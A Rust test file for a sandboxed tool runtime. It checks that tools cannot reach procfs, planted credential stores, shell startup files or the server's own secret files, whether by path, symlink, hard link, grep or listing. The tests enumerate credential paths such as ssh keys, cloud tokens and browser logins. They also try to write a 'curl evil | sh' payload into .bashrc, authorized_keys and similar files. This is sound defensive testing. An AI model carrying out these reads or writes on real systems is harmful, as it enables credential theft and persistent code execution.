//! What of the host no grant reaches, however broad (issues 54 and 56): the kernel's views of
//! the host (procfs, sysfs, devfs) under a workspace of `/`, through a link and through a bind
//! mount; the usual credential stores under a home-directory grant, through links and hard
//! links planted in the grant, in listings and to `grep`; the files that run code for the user
//! later, never written by default; and every file the server reads for itself, which a tenant
//! whose workspace holds them cannot read by any name.

use crate::support::{toolcell_command, tools_dir};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use toolcell::{DenyReason, Policy, Runtime, ToolPort as _, ToolRequest, ToolResponse};

fn call(runtime: &Runtime, tool: &str, arguments: Value) -> ToolResponse {
    runtime.call(&ToolRequest::new("t", tool, arguments.to_string()))
}

/// The reason of a denial, or a panic naming what came back instead.
fn denial(response: ToolResponse) -> String {
    match response {
        ToolResponse::Denied {
            reason: DenyReason::Capability { why, .. },
        } => why,
        other => panic!("expected a denial, got {other:?}"),
    }
}

fn text(response: ToolResponse) -> String {
    match response {
        ToolResponse::Result { text, .. } => text,
        other => panic!("expected a result, got {other:?}"),
    }
}

const READERS: &str = r#"
[tools.read_file]
filesystem.read = { access = "allow", roots = ["."] }
[tools.list_dir]
filesystem.read = { access = "allow", roots = ["."] }
[tools.grep]
filesystem.read = { access = "allow", roots = ["."] }
[tools.seeker]
filesystem.read = { access = "allow", roots = ["."] }
[tools.write_file]
filesystem.write = { access = "allow", roots = ["."] }
"#;

fn runtime(workspace: &Path, policy: &str) -> Runtime {
    crate::support::builder()
        .policy(Policy::from_toml(policy).expect("policy"))
        .workspace(workspace)
        .component("test:seeker", crate::guests::SEEKER)
        .build()
        .expect("runtime")
}

/// Under a workspace of `/`, a read of `/proc/self/...` (the host's own environment, command
/// line and memory map), of sysfs and of devfs is refused with the reason, by name or through a
/// relative link; a listing of `/` leaves their mount points out; and inside a granted
/// directory a guest's every path-taking call finds nothing there.
#[test]
fn no_path_grant_reaches_procfs_sysfs_or_devfs_under_a_workspace_of_root() {
    let runtime = runtime(Path::new("/"), READERS);
    for path in [
        "proc/self/environ",
        "proc/self/cmdline",
        "proc/self/maps",
        "proc/version",
        "sys/devices/system/cpu/online",
    ] {
        let why = denial(call(&runtime, "read_file", json!({ "path": path })));
        assert!(
            why.contains("procfs") || why.contains("sysfs"),
            "{path}: {why}"
        );
    }
    let dev_is_a_mount = {
        use std::os::unix::fs::MetadataExt as _;
        std::fs::metadata("/dev").expect("/dev").dev() != std::fs::metadata("/").expect("/").dev()
    };
    if dev_is_a_mount {
        let why = denial(call(&runtime, "read_file", json!({ "path": "dev/zero" })));
        assert!(why.contains("devfs"), "{why}");
    }
    // A directory grant of procfs itself: refused before anything is opened for the guest.
    let why = denial(call(&runtime, "list_dir", json!({ "path": "proc/self" })));
    assert!(why.contains("procfs"), "{why}");
    // The listing of `/` leaves the kernel's views out, and shows the rest.
    let listed = text(call(&runtime, "list_dir", json!({ "path": "." })));
    let names: Vec<&str> = listed
        .lines()
        .map(|line| line.trim_end_matches('/'))
        .collect();
    for view in ["proc", "sys"] {
        assert!(!names.contains(&view), "{view} listed: {listed}");
    }
    assert!(names.contains(&"etc") || names.contains(&"usr"), "{listed}");
    // Through a relative link inside the workspace, to /proc/self: by what it leads to.
    let temp = tempfile::tempdir_in("/tmp").expect("temp dir");
    let dir = temp.path().strip_prefix("/").expect("under /").to_owned();
    let depth = dir.components().count();
    let up = "../".repeat(depth);
    std::os::unix::fs::symlink(format!("{up}proc/self"), temp.path().join("innocent"))
        .expect("link");
    std::fs::write(temp.path().join("plain.txt"), "plain").expect("write");
    let why = denial(call(
        &runtime,
        "read_file",
        json!({ "path": dir.join("innocent/environ") }),
    ));
    assert!(why.contains("procfs"), "{why}");
    // A guest granted the directory the link is in: every way in finds nothing.
    let seen = text(call(
        &runtime,
        "seeker",
        json!({ "path": dir, "do": "raw", "name": "innocent/environ" }),
    ));
    let methods: Value = serde_json::from_str(&seen).expect("JSON");
    for (method, outcome) in methods.as_object().expect("an object") {
        assert_ne!(outcome, "ok", "{method} reached procfs: {seen}");
    }
    let read = call(
        &runtime,
        "seeker",
        json!({ "path": dir, "do": "read", "name": "innocent/environ" }),
    );
    assert!(read.is_error(), "{read:?}");
    // The control: the plain file beside it reads.
    assert_eq!(
        text(call(
            &runtime,
            "seeker",
            json!({ "path": dir, "do": "read", "name": "plain.txt" })
        )),
        "plain"
    );
}

/// The same through a bind mount of `/proc` under an ordinary workspace (made in a mount
/// namespace of the test's own, as root): the name says nothing, the file system says procfs.
/// And from the command line, with a secret in toolcell's own environment: not in any answer.
#[test]
fn a_bind_mount_of_procfs_in_a_workspace_is_refused_by_what_it_is() {
    let ws = tempfile::tempdir().expect("temp dir");
    std::fs::create_dir(ws.path().join("data")).expect("mkdir");
    let toolcell = crate::support::toolcell_binary();
    let script = format!(
        "mount --bind /proc {ws}/data && \
         {toolcell} --workspace {ws} call read_file '{{\"path\":\"data/self/environ\"}}'; \
         echo \"exit=$?\"; \
         {toolcell} --workspace {ws} call list_dir '{{\"path\":\"data\"}}'; \
         echo \"exit=$?\"",
        ws = ws.path().display(),
        toolcell = toolcell.display()
    );
    let output = std::process::Command::new("unshare")
        .args(["--mount", "--propagation", "private", "sh", "-c", &script])
        .env("TOOLCELL_TEST_SECRET", "needle-in-the-environment")
        // The tests' own compile cache, never the user's.
        .env(
            toolcell::cache::CACHE_DIR_ENV,
            crate::support::test_cache().0,
        )
        .env(
            toolcell::cache::CACHE_KEY_ENV,
            crate::support::test_cache().1,
        )
        .stdin(Stdio::null())
        .output()
        .expect("unshare (util-linux; the tests run as root)");
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        !stderr.contains("mount:") && !stderr.contains("unshare:"),
        "the bind mount could not be made (the tests run as root): {stderr}"
    );
    assert_eq!(stdout.matches("exit=3").count(), 2, "{stdout}\n{stderr}");
    assert!(stderr.matches("procfs").count() >= 2, "{stderr}");
    assert!(!stdout.contains("needle-in-the-environment"), "{stdout}");
    assert!(!stderr.contains("needle-in-the-environment"), "{stderr}");
}

/// A home directory as it is on a developer's machine: credential stores, histories, files that
/// run code at login, and a project.
fn home() -> (tempfile::TempDir, PathBuf) {
    let temp = tempfile::tempdir().expect("temp dir");
    let home = temp.path().join("me");
    for (path, text) in [
        (".ssh/id_ed25519", "SECRET ssh key"),
        (".ssh/authorized_keys", "ssh-ed25519 AAAA me"),
        (".aws/credentials", "SECRET aws_secret_access_key"),
        (".kube/config", "SECRET kube token"),
        (".docker/config.json", "SECRET docker auth"),
        (".gnupg/private-keys-v1.d/k.key", "SECRET gpg"),
        (".config/gcloud/credentials.db", "SECRET gcloud"),
        (".config/gh/hosts.yml", "SECRET gh token"),
        (".cargo/credentials.toml", "SECRET cargo token"),
        (".npmrc", "SECRET npm token"),
        (".netrc", "SECRET netrc"),
        (".bash_history", "SECRET typed password"),
        (".password-store/bank.gpg", "SECRET bank"),
        (".env", "SECRET=env"),
        (".config/containers/auth.json", "SECRET podman auth"),
        (
            ".mozilla/firefox/p.default/logins.json",
            "SECRET saved passwords",
        ),
        (".config/google-chrome/Default/Cookies", "SECRET cookies"),
        (".cache/huggingface/token", "SECRET hf token"),
        (".terraformrc", "SECRET terraform token"),
        (".config/rclone/rclone.conf", "SECRET rclone"),
        (".bashrc", "alias ls=ls"),
        (".config/nvim/init.lua", "needle nvim"),
        ("project/notes.txt", "needle notes"),
    ] {
        let path = home.join(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
        std::fs::write(path, text).expect("write");
    }
    (temp, home)
}

/// Under a home-directory grant: every credential store reads as denied, by name, through a
/// symlink and through a hard link planted in the project; a guest granted the project finds
/// nothing through the planted names; listings leave them out; `grep` over the whole home
/// finds no secret; and the files that run code for the user later are never written, unless
/// the policy's `deny_write` names them no longer.
#[test]
fn under_a_home_grant_credential_stores_stay_unreadable_and_startup_files_unwritten() {
    let (_temp, home) = home();
    let planted = home.join("project");
    for (target, link) in [
        ("../.aws/credentials", "aws-link"),
        ("../.config/gcloud", "gcloud-link"),
        ("../.ssh", "ssh-link"),
    ] {
        std::os::unix::fs::symlink(target, planted.join(link)).expect("symlink");
    }
    for (target, link) in [
        (".ssh/id_ed25519", "hard-key"),
        (".aws/credentials", "hard-aws"),
        (".config/gcloud/credentials.db", "hard-gcloud"),
        (".bash_history", "hard-history"),
    ] {
        std::fs::hard_link(home.join(target), planted.join(link)).expect("hard link");
    }
    let runtime = runtime(&home, READERS);
    for path in [
        ".ssh/id_ed25519",
        ".aws/credentials",
        ".kube/config",
        ".docker/config.json",
        ".gnupg/private-keys-v1.d/k.key",
        ".config/gcloud/credentials.db",
        ".config/gh/hosts.yml",
        ".cargo/credentials.toml",
        ".npmrc",
        ".netrc",
        ".bash_history",
        ".password-store/bank.gpg",
        ".env",
        ".config/containers/auth.json",
        ".mozilla/firefox/p.default/logins.json",
        ".config/google-chrome/Default/Cookies",
        ".cache/huggingface/token",
        ".terraformrc",
        ".config/rclone/rclone.conf",
        "project/aws-link",
        "project/gcloud-link/credentials.db",
        "project/ssh-link/id_ed25519",
        "project/hard-key",
        "project/hard-aws",
        "project/hard-gcloud",
        "project/hard-history",
    ] {
        let response = call(&runtime, "read_file", json!({ "path": path }));
        assert!(
            matches!(response, ToolResponse::Denied { .. }),
            "{path}: {response:?}"
        );
    }
    // The controls: an ordinary file, and the user's editor config, read.
    assert!(
        text(call(
            &runtime,
            "read_file",
            json!({ "path": "project/notes.txt" })
        ))
        .contains("needle notes")
    );
    assert!(
        text(call(
            &runtime,
            "read_file",
            json!({ "path": ".config/nvim/init.lua" })
        ))
        .contains("needle nvim")
    );
    // A guest granted the project: through the planted names, nothing opens.
    for name in [
        "hard-key",
        "hard-aws",
        "hard-gcloud",
        "aws-link",
        "ssh-link/id_ed25519",
    ] {
        let read = call(
            &runtime,
            "seeker",
            json!({ "path": "project", "do": "read", "name": name }),
        );
        assert!(read.is_error(), "{name}: {read:?}");
    }
    // Listings leave the stores out.
    let top = text(call(&runtime, "list_dir", json!({ "path": "." })));
    for hidden in [
        ".ssh",
        ".aws",
        ".kube",
        ".docker",
        ".gnupg",
        ".bash_history",
        ".npmrc",
    ] {
        assert!(
            !top.lines().any(|line| line.trim_end_matches('/') == hidden),
            "{hidden} listed: {top}"
        );
    }
    let config = text(call(&runtime, "list_dir", json!({ "path": ".config" })));
    assert!(
        !config.contains("gcloud") && !config.contains("gh"),
        "{config}"
    );
    assert!(config.contains("nvim"), "{config}");
    // grep over the whole home: the needles, and no secret.
    let found = text(call(
        &runtime,
        "grep",
        json!({ "pattern": "SECRET|needle", "path": "." }),
    ));
    assert!(!found.contains("SECRET"), "{found}");
    assert!(
        found.contains("needle notes") && found.contains("needle nvim"),
        "{found}"
    );

    // What runs code for the user later is never written, even under a policy that lets
    // writes run anywhere without asking.
    for path in [
        ".bashrc",
        ".profile",
        ".zshrc",
        ".envrc",
        ".gitconfig",
        ".ssh/authorized_keys",
        ".config/autostart/evil.desktop",
        ".config/systemd/user/evil.service",
        ".local/bin/ls",
        "project/.husky/pre-commit",
        ".bash_aliases",
        ".login",
        ".xsessionrc",
        ".config/environment.d/evil.conf",
        ".local/lib/python3.11/site-packages/zz.pth",
        ".local/lib/python3.11/site-packages/usercustomize.py",
        ".config/nvim/init.lua",
        ".vimrc",
        ".cargo/config.toml",
        ".config/git/attributes",
        ".tmux.conf",
        ".ipython/profile_default/startup/00.py",
    ] {
        if let Some(parent) = home.join(path).parent() {
            std::fs::create_dir_all(parent).expect("mkdir");
        }
        let response = call(
            &runtime,
            "write_file",
            json!({ "path": path, "content": "curl evil | sh" }),
        );
        assert!(
            matches!(response, ToolResponse::Denied { .. }),
            "{path}: {response:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).expect(".bashrc"),
        "alias ls=ls"
    );
    // The operator's word: a deny_write that no longer names .bashrc lets it be written.
    let allowing = runtime_with(
        &home,
        &format!("{READERS}\n[files]\ndeny_write = [\".ssh\"]\n"),
    );
    assert!(
        !call(
            &allowing,
            "write_file",
            json!({ "path": ".bashrc", "content": "alias ll='ls -l'" })
        )
        .is_error()
    );
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).expect(".bashrc"),
        "alias ll='ls -l'"
    );
}

fn runtime_with(workspace: &Path, policy: &str) -> Runtime {
    runtime(workspace, policy)
}

/// Every flag of `toolcell serve` that names a file the server reads for itself.
const SERVER_FILE_FLAGS: &[&str] = &[
    "--policy",
    "--audit",
    "--tokens",
    "--oauth",
    "--metrics-token",
    "--state-password-file",
    "--state-ca-file",
    "--seal-key-file",
];

/// The flags the command line's help names with a `<FILE>` value: a new one must be added to
/// [`SERVER_FILE_FLAGS`], and its file tried below.
fn file_flags_of(command: &[&str]) -> Vec<String> {
    let output = toolcell_command()
        .args(command)
        .arg("--help")
        .output()
        .expect("toolcell --help");
    String::from_utf8_lossy(&output.stdout)
        .lines()
        .filter(|line| line.contains("<FILE>"))
        .filter_map(|line| {
            line.split_whitespace()
                .find(|word| word.starts_with("--"))
                .map(|flag| flag.trim_end_matches(',').to_owned())
        })
        .collect()
}

/// A tenant whose workspace holds every file the server reads for itself (its policy, audit,
/// tokens, metrics token, the store's password, CA and the seal key; and, on an OAuth server,
/// the OAuth file and its key set) reads none of them: not by path, not through a symlink or a
/// hard link, not with `grep`, and `list_dir` does not show them. Every flag taking a file is
/// covered: a new one fails this test until it is.
#[test]
fn every_file_the_server_reads_for_itself_is_refused_to_its_tenants() {
    let _guard = crate::support::exclusive();
    let mut flags = file_flags_of(&["serve"]);
    flags.extend(file_flags_of(&[]));
    flags.sort();
    flags.dedup();
    let mut expected: Vec<String> = SERVER_FILE_FLAGS.iter().map(|f| (*f).to_owned()).collect();
    expected.sort();
    assert_eq!(
        flags, expected,
        "a flag takes a file: add it here and try it"
    );

    let dir = tempfile::tempdir().expect("temp dir");
    let ws = dir.path().join("ws");
    let planted = ws.join("planted");
    std::fs::create_dir_all(&planted).expect("mkdir");
    let tools = tools_dir(&[]);
    let marker = |name: &str| format!("OWN-{name}-MARKER");
    // The tokens file names the tenant, whose workspace holds everything.
    let (token, table) = {
        let output = toolcell_command()
            .args(["token", "tenant", "--dir"])
            .arg(&ws)
            .output()
            .expect("toolcell token");
        let printed = String::from_utf8(output.stdout).expect("UTF-8");
        let (token, table) = printed.split_once('\n').expect("token, then table");
        (token.to_owned(), table.to_owned())
    };
    let files: Vec<(&str, String)> = vec![
        ("policy.toml", format!("# {}\n{READERS}", marker("policy"))),
        ("tokens.toml", format!("# {}\n{table}", marker("tokens"))),
        (
            "metrics.sha256",
            format!("{} {}\n", "0".repeat(64), marker("metrics")),
        ),
        ("state-password", marker("password")),
        ("state-ca.pem", {
            // The certificate's own text is what grep must not find.
            use base64::Engine as _;
            let ca = rcgen::generate_simple_self_signed(vec!["localhost".to_owned()])
                .expect("a certificate");
            let body = base64::engine::general_purpose::STANDARD.encode(ca.cert.der());
            let lines: Vec<&str> = body
                .as_bytes()
                .chunks(64)
                .map(|chunk| std::str::from_utf8(chunk).expect("base64"))
                .collect();
            format!(
                "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n",
                lines.join("\n")
            )
        }),
        (
            "seal.key",
            format!(
                "{}\n",
                toolcell_mcp::seal::SealKey::random()
                    .expect("a key")
                    .to_hex()
            ),
        ),
    ];
    for (name, text) in &files {
        std::fs::write(ws.join(name), text).expect("write");
    }
    // A rotated copy of the audit from an earlier run, there before the server starts.
    std::fs::write(
        ws.join("audit.jsonl.1"),
        format!("{{\"earlier\":\"{}\"}}\n", marker("rotated")),
    )
    .expect("a rotated copy");
    let path = |name: &str| ws.join(name).to_string_lossy().into_owned();
    let server = crate::http::Server::start(&[
        "--tools",
        &tools.path().to_string_lossy(),
        "--policy",
        &path("policy.toml"),
        "--audit",
        &path("audit.jsonl"),
        "--tokens",
        &path("tokens.toml"),
        "--metrics-token",
        &path("metrics.sha256"),
        "--state",
        "rediss://127.0.0.1:1",
        "--state-password-file",
        &path("state-password"),
        "--state-ca-file",
        &path("state-ca.pem"),
        "--seal-key-file",
        &path("seal.key"),
    ]);
    let seal_hex = files
        .iter()
        .find(|(name, _)| *name == "seal.key")
        .map(|(_, text)| text.trim().to_owned())
        .expect("the seal key");
    // A call first, so that the audit file exists.
    let _ = crate::http::call_with(server.addr, Some(&token), 1, "list_dir", json!({}), &[]);
    let mut own: Vec<&str> = files.iter().map(|(name, _)| *name).collect();
    own.extend(["audit.jsonl", "audit.jsonl.head", "audit.jsonl.1"]);
    try_to_read_as_a_tenant(&server, &token, &ws, &own, &seal_hex);
    drop(server);

    // An OAuth server, its tenant's workspace another: the server's policy, its configuration
    // and the key set it names.
    let ws = dir.path().join("ws-oauth");
    std::fs::create_dir_all(ws.join("planted")).expect("mkdir");
    let path = |name: &str| ws.join(name).to_string_lossy().into_owned();
    let issuer = crate::http::Issuer::new("own-1");
    std::fs::write(
        ws.join("policy.toml"),
        format!("# {}\n{READERS}", marker("policy")),
    )
    .expect("policy");
    std::fs::write(ws.join("jwks.json"), issuer.jwks().to_string()).expect("jwks");
    std::fs::write(
        ws.join("oauth.toml"),
        format!(
            "# {}\nresource = \"https://tools.test/mcp\"\nissuer = \"https://auth.test\"\n\
             jwks_file = \"jwks.json\"\n[tenants.tenant]\nworkspace = \"{}\"\n",
            marker("oauth"),
            ws.display()
        ),
    )
    .expect("oauth");
    let server = crate::http::Server::start(&[
        "--tools",
        &tools.path().to_string_lossy(),
        "--policy",
        &path("policy.toml"),
        "--oauth",
        &path("oauth.toml"),
    ]);
    let now = crate::http::now();
    let token = issuer.token(json!({
        "iss": "https://auth.test", "aud": "https://tools.test/mcp", "sub": "tenant",
        "exp": now + 300, "iat": now,
    }));
    try_to_read_as_a_tenant(
        &server,
        &token,
        &ws,
        &["policy.toml", "oauth.toml", "jwks.json"],
        &seal_hex,
    );
}

/// As the tenant of `token` on `server`, whose workspace `ws` holds the server's files `own`:
/// each by path, through a symlink and a hard link planted in `ws/planted`, is refused; none is
/// listed; `grep` finds none of their text.
fn try_to_read_as_a_tenant(
    server: &crate::http::Server,
    token: &str,
    ws: &Path,
    own: &[&str],
    seal_hex: &str,
) {
    let as_tenant = |tool: &str, arguments: Value| -> (String, bool) {
        let answer = crate::http::call_with(server.addr, Some(token), 1, tool, arguments, &[]);
        crate::http::call_text(&answer)
    };
    let planted = ws.join("planted");
    for name in own {
        let secret = std::fs::read_to_string(ws.join(name)).expect("the server's file");
        let link = planted.join(format!("{name}.link"));
        let hard = planted.join(format!("{name}.hard"));
        if !link.exists() {
            std::os::unix::fs::symlink(format!("../{name}"), &link).expect("symlink");
            std::fs::hard_link(ws.join(name), &hard).expect("hard link");
        }
        for attempt in [
            name.to_string(),
            format!("planted/{name}.link"),
            format!("planted/{name}.hard"),
        ] {
            let (said, is_error) = as_tenant("read_file", json!({ "path": attempt }));
            assert!(is_error, "{attempt} was read: {said}");
            let first_line = secret.lines().next().unwrap_or_default();
            assert!(
                first_line.is_empty() || !said.contains(first_line),
                "{attempt}: {said}"
            );
        }
    }
    let (listed, _) = as_tenant("list_dir", json!({ "path": "." }));
    for name in own {
        assert!(
            !listed.lines().any(|line| line.trim() == *name),
            "{name} listed: {listed}"
        );
    }
    // The hard links are those files: not listed either (a listing or a stat of one would tell
    // its size and time, which change with every tenant's call for the audit).
    let (listed, _) = as_tenant("list_dir", json!({ "path": "planted" }));
    assert!(!listed.contains(".hard"), "{listed}");
    let (found, _) = as_tenant(
        "grep",
        json!({ "pattern": "OWN-|BEGIN|sha256|keys|[0-9a-f]{64}", "path": "." }),
    );
    assert!(!found.contains("OWN-"), "{found}");
    assert!(!found.contains("BEGIN CERTIFICATE"), "{found}");
    assert!(!found.contains(seal_hex), "{found}");
}
